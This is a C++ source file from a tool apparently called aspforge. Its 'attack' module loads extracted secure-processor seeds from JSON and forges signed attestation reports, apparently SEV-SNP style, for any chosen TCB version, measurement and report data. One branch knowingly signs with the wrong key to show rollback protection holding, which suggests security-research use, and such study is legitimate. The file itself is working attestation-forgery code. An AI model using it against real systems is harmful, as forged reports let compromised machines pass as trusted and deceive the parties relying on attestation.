// Copyright aspforge contributors.
// Licensed under the Apache License, Version 2.0, see LICENSE for details.
// SPDX-License-Identifier: Apache-2.0

#include "aspforge/attack/forge.hpp"

namespace aspforge::attack {

namespace {

std::optional<attest::Seed32> seed_from_hex_field(const nlohmann::json& j,
                                                  const char* key) {
  if (!j.contains(key) || !j[key].is_string()) return std::nullopt;
  return fixed_from_hex<32>(j[key].get<std::string>());
}

}  // namespace

nlohmann::json ExtractedMaterial::to_json() const {
  nlohmann::json j;
  j["kind"] = root_seed ? "root" : "svn";
  if (root_seed) j["root_seed"] = to_hex(as_view(*root_seed));
  if (layer1_seed) j["layer1_seed"] = to_hex(as_view(*layer1_seed));
  if (rollback_seed) j["rollback_seed"] = to_hex(as_view(*rollback_seed));
  j["cur"] = cur;
  j["chip_id"] = to_hex(as_view(chip_id));
  return j;
}

std::optional<ExtractedMaterial> ExtractedMaterial::from_json(const nlohmann::json& j) {
  ExtractedMaterial m;
  m.root_seed = seed_from_hex_field(j, "root_seed");
  m.layer1_seed = seed_from_hex_field(j, "layer1_seed");
  m.rollback_seed = seed_from_hex_field(j, "rollback_seed");
  if (j.contains("cur")) m.cur = j["cur"].get<uint8_t>();
  if (j.contains("chip_id") && j["chip_id"].is_string()) {
    auto id = fixed_from_hex<32>(j["chip_id"].get<std::string>());
    if (!id) return std::nullopt;
    m.chip_id = *id;
  }
  if (!m.root_seed && !m.layer1_seed) return std::nullopt;
  return m;
}

ForgeResult forge_report(const ExtractedMaterial& material,
                         const attest::TcbVersion& target,
                         const std::array<uint8_t, 48>& measurement,
                         const std::array<uint8_t, 64>& report_data) {
  const uint8_t lower[2] = {target.sevfw_svn, target.ucode_svn};
  attest::Seed32 vcek_seed{};
  bool reachable = false;

  if (material.root_seed) {
    vcek_seed = attest::derive_tcb_seed(*material.root_seed, target);
    reachable = true;
  } else if (material.layer1_seed && target.bl_svn == material.cur) {
    vcek_seed = attest::chain_lower_layers(*material.layer1_seed, lower);
    reachable = true;
  } else if (material.layer1_seed && target.bl_svn < material.cur &&
             material.rollback_seed) {
    auto derived = attest::derive_from_rollback(*material.rollback_seed, material.cur,
                                                target.bl_svn, lower);
    if (derived) {
      vcek_seed = *derived;
      reachable = true;
    }
  }

  if (!reachable) {
    // The hashstick cannot be walked upward. Produce the determined best
    // effort anyway (it signs with the wrong key): the verifier rejecting
    // this is the anti-rollback property working.
    attest::Seed32 base = material.layer1_seed
                              ? *material.layer1_seed
                              : (material.rollback_seed ? *material.rollback_seed
                                                        : attest::Seed32{});
    vcek_seed = attest::chain_lower_layers(base, lower);
  }

  ForgeResult out{attest::sign_report(vcek_seed, measurement, target,
                                      material.chip_id, report_data),
                  reachable};
  return out;
}

}  // namespace aspforge::attack
